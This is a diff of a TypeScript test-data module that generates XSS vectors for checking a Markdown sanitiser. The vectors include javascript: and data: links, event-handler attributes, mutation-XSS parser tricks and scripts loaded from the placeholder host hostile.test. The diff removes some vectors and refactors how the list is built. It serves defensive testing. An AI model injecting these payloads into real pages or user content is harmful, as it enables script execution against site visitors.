@@ -1,8 +1,6 @@
 import { MARKDOWN_POSITIONS } from "./markdown-positions"
 import { OWN_WORDS } from "./own-words"
 
-type Vector = { name: string; markdown: string }
-
 const CODE = "alert(1)"
 const HOST = "https://hostile.test"
 
@@ -27,10 +25,6 @@ export const ADDRESSES = {
   comment: `javascript://%0A${CODE}`,
   "template string": "javascript:alert`1`",
   "inside another scheme": `feed:javascript:${CODE}`,
-  "view source": `view-source:javascript:${CODE}`,
-  vbscript: "vbscript:MsgBox(1)",
-  livescript: `livescript:${CODE}`,
-  mocha: `mocha:${CODE}`,
   "data html": `data:text/html,<script>${CODE}</script>`,
   "data html in base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
   "data svg":
@@ -80,10 +74,10 @@ const EVENTS =
 
 /** Elements that fire events by themselves, or easily. */
 const FIRING: readonly ((text: string) => string)[] = [
-  (handler) => `<p ${handler}="${CODE}" tabindex="0" autofocus>x</p>`,
-  (handler) => `<a href="#" ${handler}='${CODE}' autofocus>x</a>`,
-  (handler) => `<svg ${handler}=${CODE}><circle r="9"/></svg>`,
-  (handler) => `<details open ${handler}="${CODE}"><summary>x</summary>y</details>`,
+  (event) => `<p on${event}="${CODE}" tabindex="0" autofocus>x</p>`,
+  (event) => `<a href="#" on${event}='${CODE}' autofocus>x</a>`,
+  (event) => `<svg on${event}=${CODE}><circle r="9"/></svg>`,
+  (event) => `<details open on${event}="${CODE}"><summary>x</summary>y</details>`,
 ]
 
 /** Where else a text may stand. */
@@ -103,16 +97,12 @@ const ELEMENTS =
   "applet audio body dialog div fencedframe html image input isindex keygen marquee noembed noscript object plaintext " +
   "portal select svg template textarea title video x xmp ı"
 
-const STYLES = [`width:expression(${CODE})`, `behavior:url(${HOST}/x.htc)`, `-moz-binding:url(${HOST}/x.xml#x)`]
-
 /** What is known to have got through one sanitiser or another. */
 const KNOWN: readonly string[] = [
   ...ELEMENTS.split(" ").flatMap((element) => [
     `<${element}><script>${CODE}</script></${element}>`,
     `<${element} contenteditable open autofocus onfocus=${CODE} onload=${CODE} src=${HOST}/x>x</${element}>`,
   ]),
-  ...STYLES.map((style) => `<div style="${style}">x</div>`),
-  `<SCRIPT SRC=${HOST}/x.js></SCRIPT>`,
   `<script/src="${HOST}/x.js"></script>`,
   `<script\n>${CODE}</script\n>`,
   `<scr<script>ipt>${CODE}</scr</script>ipt>`,
@@ -124,66 +114,52 @@ const KNOWN: readonly string[] = [
   `<![CDATA[<script>${CODE}</script>]]>`,
   `<?xml version="1.0"?><script>${CODE}</script>`,
   `<noscript><p title="</noscript><script>${CODE}</script>">`,
-  `<title></title><script>${CODE}</script>`,
   `<template shadowrootmode="open"><script>${CODE}</script></template>`,
   `<svg><script href="data:,${CODE}"/></svg>`,
   `<svg><style><img src=x onerror=${CODE}></style></svg>`,
   `<svg></p><style><a id="</style><img src=1 onerror=${CODE}>">`,
   `<svg><foreignObject><iframe srcdoc="<script>${CODE}</script>"></iframe></foreignObject></svg>`,
   `<svg><animate onbegin=${CODE} attributeName=x dur=1s></svg>`,
-  `<svg><set attributeName="href" to="javascript:${CODE}"/></svg>`,
   `<svg><a><animate attributeName=href values=javascript:${CODE} /><text>x</text></a></svg>`,
   `<math><mi//xlink:href="data:x,<script>${CODE}</script>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${CODE}>">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CODE}>`,
   `<table><caption><svg><title><style><img src=x onerror=${CODE}></style></title></svg></caption></table>`,
   `<img/src="x"/onerror=${CODE}>`,
-  `<img src=x:x onerror=${CODE}//`,
   `<img """><script>${CODE}</script>">`,
-  `<image src=x onerror=${CODE}>`,
   `<img src="x\` \`<script>${CODE}</script>"\` \`>`,
   `<img srcset="x 1x" onerror=${CODE}>`,
-  `<picture><source srcset="x"><img onerror=${CODE}></picture>`,
-  `<video><source onerror=${CODE}></video>`,
   `<p popover id=q onbeforetoggle=${CODE}>x</p><button popovertarget=q>y</button>`,
   `<style>@import'${HOST}/x.css';</style>`,
-  `<meta charset="UTF-7">+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
   `<a href="#" id="___gatsby" name="pagePath">x</a>`,
   `<form id="location"><input name="href"></form>`,
   `<p id="main-content" class="navbar">x</p>`,
   `<a href="//hostile.test/\\@x" ping="${HOST}/ping" target="_blank">x</a>`,
   `<p is="x-y" slot="z" data-tooltip="<img src=x onerror=${CODE}>">x</p>`,
   `<script type="module">import "${HOST}/x.js"</script>`,
-  `<script type="importmap">{"imports":{"a":"${HOST}/x.js"}}</script>`,
-  `<script type="speculationrules">{"prefetch":[{"urls":["${HOST}/x"]}]}</script>`,
   '```"onload=alert(1)\nx\n```',
   "```<img src=x onerror=alert(1)>\nx\n```",
   `[x](https://hostile.test/"onmouseover="${CODE})`,
   `[x](https://hostile.test 'x" onclick="${CODE}')`,
   `<https://hostile.test/<script>${CODE}</script>>`,
   `www.hostile.test/"onmouseover=${CODE}`,
-  `x^[inline <script>${CODE}</script> note]`,
   `## <img src=x onerror=${CODE}> {#"onclick=${CODE}}`,
-  `$$\\href{javascript:${CODE}}{x}$$`,
-  `{{constructor.constructor('${CODE}')()}}`,
-  `<%= ${CODE} %>`,
 ]
 
 /**
  * Texts that could smuggle code into a page, made systematically: what runs × how it is written × where it is. Each would call
  * `alert`, or load from another host.
  */
-export const VECTORS: readonly Vector[] = toVectors([
-  ...fill(LINKS, Object.values(ADDRESSES)),
-  ...fill(LOADERS, [ADDRESSES.plain, ADDRESSES["data html"], ADDRESSES["tab inside"]]),
-  ...fill(
-    FIRING,
-    EVENTS.split(" ").map((event) => `on${event}`),
-  ),
-  ...fill(PLACES, [`<img src=x onerror=${CODE}>`, `<script>${CODE}</script>`, `[x](javascript:${CODE})`]),
-  ...fill(Object.values(MARKDOWN_POSITIONS), Object.values(OWN_WORDS)),
-  ...KNOWN,
-])
+export const VECTORS: readonly { name: string; markdown: string }[] = [
+  ...new Set([
+    ...fill(LINKS, Object.values(ADDRESSES)),
+    ...fill(LOADERS, [ADDRESSES.plain, ADDRESSES["data html"], ADDRESSES["tab inside"]]),
+    ...fill(FIRING, EVENTS.split(" ")),
+    ...fill(PLACES, [`<img src=x onerror=${CODE}>`, `<script>${CODE}</script>`, `[x](javascript:${CODE})`]),
+    ...fill(Object.values(MARKDOWN_POSITIONS), Object.values(OWN_WORDS)),
+    ...KNOWN,
+  ]),
+].map((markdown) => ({ name: JSON.stringify(markdown), markdown }))
 
 /** Images in Markdown have to be files or https addresses: these are refused with file and line. */
 export const IMAGE_VECTORS: readonly string[] = Object.values(ADDRESSES)
@@ -192,8 +168,4 @@ export const IMAGE_VECTORS: readonly string[] = Object.values(ADDRESSES)
 
 function fill(places: readonly ((text: string) => string)[], texts: readonly string[]): string[] {
   return places.flatMap((place) => texts.map((text) => place(text)))
-}
-
-function toVectors(texts: readonly string[]): Vector[] {
-  return [...new Set(texts)].map((markdown) => ({ name: JSON.stringify(markdown), markdown }))
 }
